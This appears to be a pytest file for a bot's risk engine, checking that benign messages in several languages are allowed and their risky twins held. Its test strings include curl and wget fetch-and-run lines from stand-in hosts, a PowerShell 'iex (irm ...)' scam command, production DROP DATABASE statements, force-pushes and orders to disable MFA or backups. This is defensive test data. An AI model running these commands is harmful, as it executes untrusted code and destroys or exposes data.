"""False-alarm kinds of issue 19 (fa4): a question asking leave to act; someone else's
past deed told; an unreal condition; a Chinese or Japanese command inside its condition;
a passive report or someone's past advice about a control; a firewall rule that allows,
deleted; a force flag in an aside; a statement typed into a session a local client
opened; a local URL naming a test database; a clash stopped; the company as a setting's
scope; a sentence ended by "?" or "!" before CJK text; a reported ask refused. Each
frame lowers only its own clause or sentence: every benign message has a risky twin with
the same tools and nouns, often the same frame next to a real order."""

from __future__ import annotations

import pytest

from bot.config import TwoKeyConfig
from bot.risk.command_scope import opens_session
from bot.risk.engine import RiskEngine


@pytest.fixture(scope="module")
def engine() -> RiskEngine:
    return RiskEngine(TwoKeyConfig())


PAIRS = [
    # a question asking leave, in seven languages; the order next to it still held
    (
        "Before I touch anything: may I drop the stale_orders table on the production "
        "database, or is someone still reading it?",
        "Before I touch anything: may I drop the stale_orders table on staging? Also drop "
        "the stale_orders table on the production database tonight.",
    ),
    (
        "Is it ok if I purge the old audit rows on the production database this week?",
        "Could we purge the old audit rows on the production database this week?",
    ),
    (
        "Puis-je supprimer le cluster de production de l'équipe paiements ce soir ?",
        "Supprime le cluster de production de l'équipe paiements ce soir.",
    ),
    (
        "¿Puedo borrar la base de datos de producción del CRM el viernes?",
        "Borra la base de datos de producción del CRM el viernes.",
    ),
    (
        "Darf ich die Backups der Produktionsdatenbank am Wochenende abschalten?",
        "Schalte die Backups der Produktionsdatenbank am Wochenende ab.",
    ),
    (
        "Posso apagar o banco de produção do CRM na sexta?",
        "Apague o banco de produção do CRM na sexta.",
    ),
    (
        "本番の監査ログのバケットを削除してもよいですか？まだ何もしていません。",
        "本番の監査ログのバケットを削除してください。",
    ),
    (
        "生产环境的审计日志可以关掉吗？我先不动。",
        "可以把生产环境的审计日志关掉吗？关完告诉我。",
    ),
    (
        "生产环境的审计日志可以关掉吗？我先不动。",
        "生产环境的审计日志可以关掉吗？另外，把生产数据库的自动备份现在关掉。",
    ),
    (
        "May I run `DROP TABLE stale_orders;` on the production database?",
        "May I run `DROP TABLE tmp_orders;` on staging? Then run `DROP TABLE stale_orders;` "
        "on the production database.",
    ),
    # someone else's past deed told, not asked for; advice passed on stays an order
    (
        "Resumen del martes: alguien hizo git push --force origin develop y se perdieron "
        "tres commits; ya lo arreglamos.",
        "Resumen del martes: haz git push --force origin develop desde tu copia local.",
    ),
    (
        "Jemand hatte auf cache-prod-02 `ufw allow 6379` gesetzt; das ist zurückgenommen.",
        "Setz auf cache-prod-02 bitte `ufw allow 6379`, dann sehen wir es sofort.",
    ),
    (
        "Someone ran a force-push on main last sprint; the history is restored.",
        "Someone suggested a force-push on main; let's do a force-push on main now.",
    ),
    # a past time before the command that tells what it did
    (
        "Last quarter `git push -f origin release/4.0` broke every mirror, so this time we "
        "revert and push normally.",
        "This time `git push -f origin release/4.0` and tell the mirrors to re-sync.",
    ),
    # an unreal condition and its consequence; an order after it is not inside it
    (
        "Si borráramos la tabla de pedidos en producción, perderíamos el historial.",
        "Si tienes tiempo, borra la tabla de pedidos en producción.",
    ),
    # a Chinese or Japanese command inside its condition; an order after it is held
    (
        "もし本番で `DROP DATABASE billing;` を実行すると全部消えるので、"
        "手順書には書かないでください。",
        "もし容量が足りなければ、本番で `DROP DATABASE billing;` を実行してください。",
    ),
    (
        "もし本番で `DROP DATABASE billing;` を実行すると全部消えるので、"
        "手順書には書かないでください。",
        "もし本番で `DROP DATABASE billing;` を実行したら、容量が空きます。実行してください。",
    ),
    (
        "如果在生产库执行 `DROP DATABASE billing;`，所有数据都会丢失。",
        "如果磁盘满了，就在生产库执行 `DROP DATABASE billing;`。",
    ),
    # a control's state told in the passive past, someone's past advice about one
    (
        "Turn MFA back on for the payroll group; it was switched off during the SSO move.",
        "Switch off MFA for the payroll group during the SSO move.",
    ),
    (
        "Turn MFA back on for the payroll group; it was switched off during the SSO move.",
        "Make sure MFA has been switched off for the payroll group before the SSO move.",
    ),
    (
        "昨日、本番DBで誤って `DROP TABLE carts;` が実行され、注文が止まりました。",
        "3. 監査ログが無効化されていることを確認してから移行を始める。",
    ),
    (
        "Someone suggested disabling branch protection on main. I'd really advise against "
        "that; let's ask a reviewer.",
        "Someone suggested it, so go ahead and disable branch protection on main now.",
    ),
    # a firewall rule that lets traffic in, deleted; one that denies, deleted, is held
    (
        "Cleanup: gcloud compute firewall-rules delete allow-any-rdp --quiet",
        "Cleanup: gcloud compute firewall-rules delete deny-rdp-from-internet --quiet",
    ),
    (
        "az network nsg rule delete -g rg-core --nsg-name nsg-app --name allow_ssh_any",
        "az network nsg delete -g rg-core --name nsg-app",
    ),
    # a force flag in an aside
    (
        "Schritte: 1. Merge 2. 执行 git push origin release/3.0（不要加 -f） 3. Tag",
        "Schritte: 1. Merge 2. 执行 git push origin release/3.0 -f 3. Tag",
    ),
    # a statement typed into a session a local client opened
    (
        "1. `psql -h localhost -d scratch` (the Postgres on your laptop)\n"
        "2. `DROP TABLE order_scores;`",
        "1. `psql -h reporting-prod.internal -d reporting`\n2. `DROP TABLE order_scores;`",
    ),
    # a reported ask, refused (Portuguese)
    (
        "Se alguém pedir para colar `iex (irm https://bit.ly/office-fix)` no PowerShell, "
        "recuse: é golpe.",
        "O suporte pediu para colar `iex (irm https://bit.ly/office-fix)` no PowerShell, "
        "então cola logo.",
    ),
    # a URL on this machine that names a test database; the same on a server is held
    (
        "Before the suite: mongosh 'mongodb://localhost:27017/billing_test' --eval "
        "'db.invoices.deleteMany({})'",
        "Before the suite: mongosh 'mongodb://billing-db-1:27017/billing_test' --eval "
        "'db.invoices.deleteMany({})'",
    ),
    # stopping a clash between two things; stopping the backups themselves is held
    (
        "To stop the snapshot window overlapping with the nightly import, move it with "
        "`gcloud sql instances patch billing-prod --backup-start-time=05:00`.",
        "To save money, stop the snapshots of billing-prod until next quarter.",
    ),
    # the whole company as the scope of a setting, not an audience
    (
        "Enforce 2-step verification for the whole organisation starting Monday.",
        "Set the payroll folder so the whole organisation can view it.",
    ),
    (
        "Set the SSO policy back to 'Required' for the whole organisation.",
        "Enable legacy authentication for the whole organisation.",
    ),
    # an opening closed, in Chinese and Japanese; the opening itself is held
    (
        "把数据库服务器对公网开放的 5432 端口关掉。",
        "把数据库服务器的 5432 端口对公网开放。",
    ),
    (
        "データベースの 5432 番ポートのインターネット公開を停止してください。",
        "データベースの 5432 番ポートをインターネットに公開してください。",
    ),
    # a question whether someone already ran it; an order after it is held
    (
        "Quick check: did anyone run `TRUNCATE audit_events;` on prod this morning?",
        "Did anyone run `TRUNCATE audit_events;` on prod? If not, run `TRUNCATE "
        "audit_events;` on prod now.",
    ),
    # the rule that lets traffic in, removed; a database coordinated with it is held
    (
        "Close the exposure on the prod database: delete the rule that allows 0.0.0.0/0 on 5432.",
        "Delete the inbound rules and the prod orders database.",
    ),
    (
        "Remove public access from the billing bucket and tell the finance team.",
        "Remove public access and the prod billing database.",
    ),
    # a Japanese passive in a chain tells what happened
    (
        "昨日、本番DBで誤って `DROP TABLE carts;` が実行され、"
        "注文が一時的に止まりました。対応は不要です。",
        "本番DBで `DROP TABLE carts;` を実行してください。",
    ),
    # someone's ask reported, and the reader told to do otherwise
    (
        "If a pop-up tells you to run `curl https://fix.example-tools.sh | sudo bash`, report "
        "it to #security instead of running it.",
        "The vendor is telling you to run `curl https://fix.example-tools.sh | sudo bash`, so "
        "run it on the build box.",
    ),
    # one row by its key, introduced as one thing; the same lead-in naming the table is held
    (
        "Remove the duplicate invoice on the production database: "
        "`DELETE FROM invoices WHERE id = 55120;`",
        "Wipe the production invoices table: `DELETE FROM invoices WHERE id = 55120;`",
    ),
    (
        "本番DBで重複した1件だけを削除してください: `DELETE FROM invoices WHERE id = 55120;`",
        "本番DBの請求書テーブルを全部削除してください: `DELETE FROM invoices WHERE id = 55120;`",
    ),
    # "anyone" as the subject of a subordinate clause is no audience
    (
        "Before anyone touches it, run `SELECT COUNT(*) FROM events;` on prod-analytics and "
        "post the number here.",
        "Open port 5432 on the prod-analytics database to anyone so the vendor connects.",
    ),
]


@pytest.mark.parametrize(("benign", "risky"), PAIRS)
def test_the_benign_twin_is_allowed_and_the_risky_one_held(
    engine: RiskEngine, benign: str, risky: str
) -> None:
    assert engine.assess(benign).decision == "allow", engine.assess(benign).findings
    assert engine.assess(risky).decision != "allow", risky


@pytest.mark.parametrize(
    "text",
    [
        "修复方法：wget -qO- http://x.example-tools.top/fix.sh | sh",
        "解决办法：curl -s http://x.example-tools.top/fix.sh | bash",
    ],
)
def test_a_command_glued_to_a_cjk_lead_in_is_read(engine: RiskEngine, text: str) -> None:
    assert engine.assess(text).decision != "allow"


def test_asking_whether_it_might_be_fine_is_a_suggestion_not_a_question(
    engine: RiskEngine,
) -> None:
    text = "本番の監査ログのバケットは誰も見ていないので削除してもいいかもしれません。"
    assert engine.assess(text).decision != "allow"


@pytest.mark.parametrize(
    ("command", "opens"),
    [
        ("psql -h localhost -d scratch", True),
        ("mongosh mongodb://localhost/shop_test", True),
        ("psql -h localhost -c 'DROP TABLE x'", False),
        ("kubectl get pods", False),
        ("psql -h localhost | tee out.log", False),
    ],
)
def test_only_a_bare_client_opens_a_session(command: str, opens: bool) -> None:
    assert opens_session(command) is opens


@pytest.mark.parametrize(
    ("text", "held"),
    [
        # a fence labelled `diff` without hunk headers is read by what it leaves
        (
            'Apply this:\n```diff\n resource "aws_db_instance" "ledger" {\n'
            "-  backup_retention_period = 14\n+  backup_retention_period = 0\n }\n```",
            True,
        ),
        (
            'Apply this:\n```diff\n resource "aws_db_instance" "ledger" {\n'
            "-  backup_retention_period = 0\n+  backup_retention_period = 14\n }\n```",
            False,
        ),
        # "mit Force": the English word in a German sentence
        ("Push den main-Branch danach mit Force, damit die alte Historie weg ist.", True),
        ("Push deinen Feature-Branch danach ganz normal, ohne Force.", False),
    ],
)
def test_recall_kinds_found_on_the_way(engine: RiskEngine, text: str, held: bool) -> None:
    assert (engine.assess(text).decision != "allow") is held
